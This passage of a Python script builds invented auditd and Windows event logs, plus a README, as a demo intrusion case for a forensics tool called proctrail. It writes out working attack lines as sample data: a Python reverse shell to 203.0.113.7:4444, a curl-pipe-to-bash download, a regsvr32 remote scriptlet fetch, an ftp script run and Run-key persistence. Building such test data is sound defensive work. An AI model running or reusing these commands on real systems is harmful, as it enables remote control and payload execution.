        # The kernel logs at most 128 bytes of the NUL-separated argument area.
        return "proctitle=" + audit_str(b"\0".join(a.encode() for a in argv)[:128])


REVERSE_SHELL = ('import socket,os,pty; s=socket.socket(); s.connect(("203.0.113.7",4444)); '
                 '[os.dup2(s.fileno(),f) for f in (0,1,2)]; pty.spawn("/bin/bash")')


def cron_run(a: Audit, clock: str, sec: float, cron_pid: int, ses: int, command: str,
             child: tuple[list[str], str, str, list[str], str]) -> None:
    """One cron job of root: PAM session, ``/bin/sh -c``, its one child, exits, close."""

    def t(offset_ms: int) -> str:
        ms = int(sec * 1000) + offset_ms
        return f"{clock}:{ms // 1000:02d}.{ms % 1000:03d}"

    none = Ids(UNSET, 0, "(none)", UNSET)
    root = Ids(0, 0, "(none)", ses)
    pam = "pam_loginuid,pam_env,pam_env,pam_permit,pam_umask,pam_unix,pam_limits"
    a.user(t(0), "USER_ACCT", cron_pid, none, "PAM:accounting", "pam_permit", "root",
           "/usr/sbin/cron", "?", "cron")
    a.user(t(0), "CRED_ACQ", cron_pid, none, "PAM:setcred", "pam_permit,pam_cap", "root",
           "/usr/sbin/cron", "?", "cron")
    a.login(t(1), cron_pid, 0, ses)
    a.user(t(4), "USER_START", cron_pid, root, "PAM:session_open", pam, "root",
           "/usr/sbin/cron", "?", "cron")
    sh_argv = ["/bin/sh", "-c", command]
    a.execve(t(8), cron_pid, cron_pid + 1, root, sh_argv, "/usr/bin/dash", "/root", ["/bin/sh"],
             comm="sh")
    argv, exe, cwd, paths, comm = child
    a.execve(t(11), cron_pid + 1, cron_pid + 2, root, argv, exe, cwd, paths, comm)
    a.exit(t(84), cron_pid + 1, cron_pid + 2, root, argv, exe, comm)
    a.exit(t(86), cron_pid, cron_pid + 1, root, sh_argv, "/usr/bin/dash", "sh")
    a.user(t(87), "CRED_DISP", cron_pid, root, "PAM:setcred", "pam_permit,pam_cap", "root",
           "/usr/sbin/cron", "?", "cron")
    a.user(t(88), "USER_END", cron_pid, root, "PAM:session_close", pam, "root",
           "/usr/sbin/cron", "?", "cron")


def build_audit(rng: random.Random) -> Audit:
    """The lnx01 story: cron noise, then an SSH login that pipes curl into bash."""
    a = Audit(rng, 4480)
    cron_run(a, "08:15", 1.503, 2051, 5, "command -v debian-sa1 > /dev/null && debian-sa1 1 1",
             (["/bin/sh", "/usr/lib/sysstat/debian-sa1", "1", "1"], "/usr/bin/dash", "/root",
              ["/usr/lib/sysstat/debian-sa1", "/bin/sh"], "debian-sa1"))
    cron_run(a, "08:17", 1.212, 2089, 6, "cd / && run-parts --report /etc/cron.hourly",
             (["run-parts", "--report", "/etc/cron.hourly"], "/usr/bin/run-parts", "/",
              ["/usr/bin/run-parts"], ""))

    # alice's password is used from outside: sshd's session child is 2140.
    sshd, ses = 2140, 7
    pre = Ids(UNSET, 0, "(none)", UNSET)
    post = Ids(1000, 0, "(none)", ses)
    a.user("08:23:40.212", "USER_AUTH", sshd, pre, "PAM:authentication", "pam_permit,pam_cap",
           "alice", "/usr/sbin/sshd", SSH_CLIENT, "ssh")
    a.user("08:23:40.214", "USER_ACCT", sshd, pre, "PAM:accounting", "pam_permit", "alice",
           "/usr/sbin/sshd", SSH_CLIENT, "ssh")
    a.user("08:23:40.215", "CRED_ACQ", sshd, pre, "PAM:setcred", "pam_permit,pam_cap", "alice",
           "/usr/sbin/sshd", SSH_CLIENT, "ssh")
    a.login("08:23:40.216", sshd, 1000, ses)
    session_pam = ("pam_selinux,pam_loginuid,pam_keyinit,pam_permit,pam_umask,pam_unix,"
                   "pam_systemd,pam_mail,pam_limits,pam_env,pam_env,pam_selinux")
    a.user("08:23:40.263", "USER_START", sshd, post, "PAM:session_open", session_pam, "alice",
           "/usr/sbin/sshd", SSH_CLIENT, "ssh")
    a.user_login("08:23:40.301", sshd, post, 1000, "/usr/sbin/sshd", SSH_CLIENT, "/dev/pts/0")

    alice = Ids(1000, 1000, "pts0", ses)
    home = "/home/alice"
    login_shell = 2198
    a.execve("08:23:40.318", 2197, login_shell, alice, ["-bash"], "/usr/bin/bash", home,
             ["/bin/bash"])
    a.execve("08:24:02.771", login_shell, 2215, alice, ["id"], "/usr/bin/id", home,
             ["/usr/bin/id"])
    a.exit("08:24:02.774", login_shell, 2215, alice, ["id"], "/usr/bin/id")
    a.execve("08:24:10.105", login_shell, 2217, alice, ["uname", "-a"], "/usr/bin/uname", home,
             ["/usr/bin/uname"])
    a.exit("08:24:10.108", login_shell, 2217, alice, ["uname", "-a"], "/usr/bin/uname")

    # curl -fsSL http://203.0.113.7/i.sh | bash
    curl_argv = ["curl", "-fsSL", f"http://{ATTACKER_IP}/i.sh"]
    a.execve("08:24:31.640", login_shell, 2231, alice, curl_argv, "/usr/bin/curl", home,
             ["/usr/bin/curl"])
    a.execve("08:24:31.641", login_shell, 2232, alice, ["bash"], "/usr/bin/bash", home,
             ["/usr/bin/bash"])
    a.exit("08:24:31.902", login_shell, 2231, alice, curl_argv, "/usr/bin/curl")
    # i.sh starts a Python reverse shell in the background and ends.
    py_argv = ["python3", "-c", REVERSE_SHELL]
    a.execve("08:24:31.955", 2232, 2240, alice, py_argv, "/usr/bin/python3.10", home,
             ["/usr/bin/python3"], comm="python3")
    a.exit("08:24:31.960", login_shell, 2232, alice, ["bash"], "/usr/bin/bash")
    # pty.spawn("/bin/bash") on a new terminal; the attacker types through it.
    shell = Ids(1000, 1000, "pts1", ses)
    a.execve("08:24:32.011", 2240, 2241, shell, ["/bin/bash"], "/usr/bin/bash", home,
             ["/bin/bash"])
    a.execve("08:25:03.480", 2241, 2250, shell, ["cat", "/etc/passwd"], "/usr/bin/cat", home,
             ["/usr/bin/cat"])
    a.exit("08:25:03.483", 2241, 2250, shell, ["cat", "/etc/passwd"], "/usr/bin/cat")
    a.execve("08:25:09.122", 2241, 2251, shell, ["whoami"], "/usr/bin/whoami", home,
             ["/usr/bin/whoami"])
    a.exit("08:25:09.125", 2241, 2251, shell, ["whoami"], "/usr/bin/whoami")

    # The SSH session ends; python3 (2240) and its bash (2241) keep running.
    a.exit("08:39:55.010", 2197, login_shell, alice, ["-bash"], "/usr/bin/bash", "bash")
    a.user("08:39:55.030", "USER_END", sshd, post, "PAM:session_close", session_pam, "alice",
           "/usr/sbin/sshd", SSH_CLIENT, "ssh")
    a.user("08:39:55.031", "CRED_DISP", sshd, post, "PAM:setcred", "pam_permit,pam_cap",
           "alice", "/usr/sbin/sshd", SSH_CLIENT, "ssh")
    return a


# --- output -------------------------------------------------------------------------------


def counts_of(events: list[WinEvent]) -> dict[str, int]:
    counter = Counter(f"{e.channel}/{e.event_id}" for e in events)
    return {key: counter[key] for key in sorted(counter, key=lambda k: int(k.rsplit("/", 1)[1]))}


def readme(files: dict[str, dict[str, int]], sizes: dict[str, int], total: int) -> str:
    rows = []
    for name, counts in files.items():
        for key, n in counts.items():
            channel, _, event_id = key.rpartition("/")
            rows.append(f"| {name} | {channel} | {event_id} | {n} |")
    size_rows = [f"| {name} | {size:,} bytes | {sum(files[name].values())} |"
                 for name, size in sizes.items()]
    return f"""# proctrail demo case

A small, invented incident for demos and tests, written by `tools/make_sample_logs.py` (standard
library only, seeded: every run writes the same bytes). Regenerate with:

    python tools/make_sample_logs.py

Every name, hash, GUID and address is made up; addresses are documentation ranges
(203.0.113.0/24 outside, 198.51.100.0/24 inside) and domains are `example.com`/`.example`.

## Hosts

- `WS01.corp.example`: a Windows 10 workstation of the CORP domain. Its Security log
  (`{SECURITY_FILE}`) and Sysmon log (`{SYSMON_FILE}`) are Event Viewer XML exports
  (one `<Events>` root, one `<Event>` a line).
- `lnx01`: an Ubuntu server. `{AUDIT_FILE}` is its raw auditd log (`node=lnx01` on every
  record; SYSCALL/EXECVE/CWD/PATH/PROCTITLE groups, PAM records, exit_group records).

## The story (2 November 2026, UTC)

WS01:

1. 07:58:41 CORP\\itadmin clears the Security log (1102). The log starts there, so
   `winlogon.exe` (0x2a4) and `services.exe` (0x2e8) never appear as started: the 4688s of
   `userinit.exe` and of the services' processes name creators that predate the log.
2. 08:12 services.exe starts Windows Update (`svchost.exe -k netsvcs -p -s wuauserv`) as
   SYSTEM (logon id 0x3e7): 4624 type 5 + 4672 + 4688. It never exits.
3. 08:14:52 CORP\\alice logs on at the console (4624 type 2, logon id 0x5b3f21; she is not
   an administrator, so no 4672); winlogon starts `userinit.exe`, which starts
   `explorer.exe` and exits; she opens Outlook.
4. 08:21:14 Outlook opens `Invoice_2026-1102.doc` in Word; Word starts
   `powershell.exe -NoP -WindowStyle Hidden -enc ...`; the base64 (UTF-16LE) decodes to
   `{PS_SCRIPT}`
   and Sysmon 22 shows its DNS query for updates.example.com (203.0.113.7).
   PowerShell (with its conhost.exe) runs
   `regsvr32.exe /s /n /u /i:http://203.0.113.7/payload.sct scrobj.dll`,
   `ftp.exe -s:C:\\Users\\alice\\AppData\\Local\\Temp\\script.txt` (PID 0x1f40) and the
   dropped `C:\\Users\\Public\\updater.exe`.
5. updater.exe connects to 203.0.113.7:443 (Sysmon 3), persists with
   `reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater ...`, runs
   `cmd.exe /c "whoami /all > ... & hostname >> ..."` (whoami.exe, HOSTNAME.EXE), and one
   hostile-text command line: `cmd.exe /c echo [bold red]x[/bold red] <ESC>[31mupdate
   ok<ESC>[0m`, the ESC characters written as the character reference `&#x1b;`. XML 1.0
   forbids that reference, so a strict parser (`xml.etree`) rejects both exports (the
   line is in each); proctrail's reader must take it, store it exactly and show it
   harmlessly.
6. 08:26-08:36 services.exe starts TrustedInstaller (which exits) and, at 08:31, BITS in
   a `svchost.exe` that gets PID 0x1f40 again: a PID reused by a different image.
7. 08:47 Word is closed; 08:52 alice signs out: Outlook, updater.exe and explorer.exe end,
   then her logon session (4634).

Every process is in both logs with the same PID (hex in Security, decimal in Sysmon)
and times within a second, so the two can be merged. Still running at the end:
the wuauserv and BITS svchost.exe, and the boot-time winlogon.exe and services.exe.

lnx01:

1. 08:15:01 and 08:17:01 cron runs root jobs (sysstat's `debian-sa1`, the hourly
   `run-parts`): PAM records, `/bin/sh -c ...` (its argument hex-encoded, as auditd
   does for values with spaces), the job, exit_group records.
2. 08:23:40 `alice` logs in over SSH from 203.0.113.50 (ses=7): `-bash` runs `id`,
   `uname -a`, then `curl -fsSL http://203.0.113.7/i.sh | bash`.
3. The script starts `python3 -c 'import socket,os,pty; ... s.connect(("203.0.113.7",4444))
   ... pty.spawn("/bin/bash")'` (its PROCTITLE is cut at 128 bytes, as the kernel does;
   EXECVE has it whole), which runs `/bin/bash` on pts1; through it `cat /etc/passwd` and
   `whoami` run.
4. 08:39:55 the SSH session ends (exit_group of `-bash`, USER_END, CRED_DISP); the reverse
   shell (python3 2240, bash 2241) never exits.

## Counts

auditd rows are counted per event (one `msg=audit(TIME:SERIAL)` id): event id 59 is an
execve, 231 an exit_group, 0 an event with no SYSCALL record (PAM and login records),
as proctrail stores them.

| file | size | events |
|---|---|---|
{chr(10).join(size_rows)}

| file | channel | event id | events |
|---|---|---|---|
{chr(10).join(rows)}

{total} events in all. `tests/data/sample_logs_truth.json` holds the same counts for tests.
Regenerate with `python tools/make_sample_logs.py`; read the case with:

    proctrail ingest --db demo.db sample_logs
"""


def main() -> None:
    rng = random.Random(SEED)
    win = build_windows(rng)
    audit = build_audit(rng)

    outputs = {
        SECURITY_FILE: export_xml(win.security, 48211, COMPUTER),
        SYSMON_FILE: export_xml(win.sysmon, 15532, COMPUTER),
        AUDIT_FILE: "\n".join(audit.lines) + "\n",
    }
    files = {
        SECURITY_FILE: counts_of(win.security),
        SYSMON_FILE: counts_of(win.sysmon),
        AUDIT_FILE: {k: audit.counts[k] for k in ("auditd/59", "auditd/231", "auditd/0")},
    }
    total = sum(sum(c.values()) for c in files.values())
    truth = {"files": files, "hosts": sorted([COMPUTER, NODE], key=str.lower),
             "events_total": total}
    sizes = {name: len(text.encode("utf-8")) for name, text in outputs.items()}
    targets = {LOGS / name: text for name, text in outputs.items()}
    targets[TRUTH] = json.dumps(truth, indent=2) + "\n"
    targets[DOC] = readme(files, sizes, total)
    for path, text in targets.items():
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(text.encode("utf-8"))
        print(f"{path.relative_to(ROOT)}: {len(text.encode('utf-8')):,} bytes")


if __name__ == "__main__":
    main()
